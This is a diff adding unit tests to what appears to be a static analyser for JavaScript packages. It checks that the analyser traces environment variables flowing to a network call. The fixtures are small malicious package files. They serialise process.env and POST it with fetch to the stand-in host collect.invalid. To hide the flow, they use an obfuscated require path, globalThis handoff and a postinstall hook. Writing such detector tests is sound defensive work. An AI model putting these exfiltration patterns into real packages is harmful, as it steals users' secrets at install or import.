@@ -293,3 +293,38 @@ void send(process.env!);`;
     }
   });
 });
+
+describe('analysePackage, group by group', () => {
+  const COLLECT = `module.exports = () => JSON.stringify(process.env);`;
+  const SEND = (from: string): string =>
+    `const collect = ${from}; fetch('https://collect.invalid', { method: 'POST', body: collect() });`;
+
+  it('follows a module that is found by a name nobody can know beforehand, before and after its own turn', () => {
+    const files = { 'lib/collect.js': COLLECT, 'package.json': '{"main":"index.js","bin":"z.js"}' };
+    const late = SEND(`require('./lib/' + ['coll', 'ect'].join(''))`);
+    assert.deepEqual(flowsIn(analyse({ ...files, 'index.js': late })), SENT);
+    assert.deepEqual(
+      flowsIn(analyse({ ...files, 'lib/a.js': '', 'index.js': `require('./lib/collect')`, 'z.js': late })),
+      ['environment>network@collect.invalid command'],
+    );
+  });
+
+  it('keeps what one group leaves on the global object for another', () => {
+    const artifact = analyse({
+      'package.json': '{"main":"a.js","bin":"b.js"}',
+      'a.js': `globalThis.collected = JSON.stringify(process.env);`,
+      'b.js': `fetch('https://collect.invalid', { method: 'POST', body: globalThis.collected });`,
+    });
+    assert.deepEqual(flowsIn(artifact), ['environment>network@collect.invalid command']);
+  });
+
+  it('says that something runs at install where an import would run it too', () => {
+    const artifact = analyse({
+      'package.json': '{"main":"a.js","scripts":{"postinstall":"node b.js"}}',
+      'a.js': SEND(`require('./c')`),
+      'b.js': `require('./a')`,
+      'c.js': COLLECT,
+    });
+    assert.deepEqual(flowsIn(artifact), ['environment>network@collect.invalid install']);
+  });
+});
